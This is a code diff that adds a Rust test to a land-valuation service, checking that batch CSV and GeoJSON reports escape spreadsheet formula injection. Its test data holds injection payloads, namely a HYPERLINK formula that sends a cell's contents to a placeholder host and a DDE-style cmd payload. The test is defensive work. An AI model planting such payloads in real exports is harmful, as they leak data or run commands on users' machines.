@@ -225,6 +225,55 @@ async fn batch_upload_reports_every_row() {
 }
 
 #[tokio::test]
+async fn batch_reports_never_carry_a_formula() {
+    let dir = tempfile::tempdir().unwrap();
+    let state = state(dir.path()).await;
+    let parcel = "POLYGON((110.71 35.11,110.72 35.11,110.72 35.12,110.71 35.12,110.71 35.11))";
+    // (id as uploaded, id as reported): the reader trims blanks, so the tab goes.
+    let ids = [
+        ("=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")", "'=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")"),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1", "'=1"),
+        ("-2", "-2"),
+    ];
+    let mut csv = String::from("id,wkt\n");
+    for (id, _) in ids {
+        csv.push_str(&format!("\"{}\",\"{parcel}\"\n", id.replace('"', "\"\"")));
+    }
+    let req = Request::post("/api/land/valuation/batch?use=住宅&filename=p.csv").body(Body::from(csv)).unwrap();
+    let (status, bytes) = call(&state, req).await;
+    assert_eq!(status, StatusCode::OK);
+    let text = String::from_utf8(bytes).unwrap();
+    let mut reader = csv::ReaderBuilder::new().from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), ids.len(), "{text}");
+    for (row, (_, expected)) in rows.iter().zip(ids) {
+        assert_eq!(&row[1], expected, "{text}");
+        assert_eq!(&row[2], "ok", "{text}");
+        for cell in row.iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '@', '\t', '\r'])
+                    && (!cell.starts_with('-') || cell.parse::<f64>().is_ok()),
+                "{cell:?} in {row:?}"
+            );
+        }
+    }
+
+    // The same through a GeoJSON upload, whose feature ids are echoed as well.
+    let fc = json!({"type": "FeatureCollection", "features": [{"type": "Feature", "id": "=1+1",
+        "properties": {}, "geometry": rect(110.71, 35.11, 110.72, 35.12)}]});
+    let req = Request::post("/api/land/valuation/batch?use=住宅&filename=p.geojson")
+        .body(Body::from(fc.to_string()))
+        .unwrap();
+    let (status, bytes) = call(&state, req).await;
+    assert_eq!(status, StatusCode::OK);
+    let text = String::from_utf8(bytes).unwrap();
+    assert!(text.lines().nth(1).unwrap().starts_with("1,'=1+1,ok,"), "{text}");
+}
+
+#[tokio::test]
 async fn expropriation_status_on_period_boundaries() {
     let dir = tempfile::tempdir().unwrap();
     let state = state(dir.path()).await;
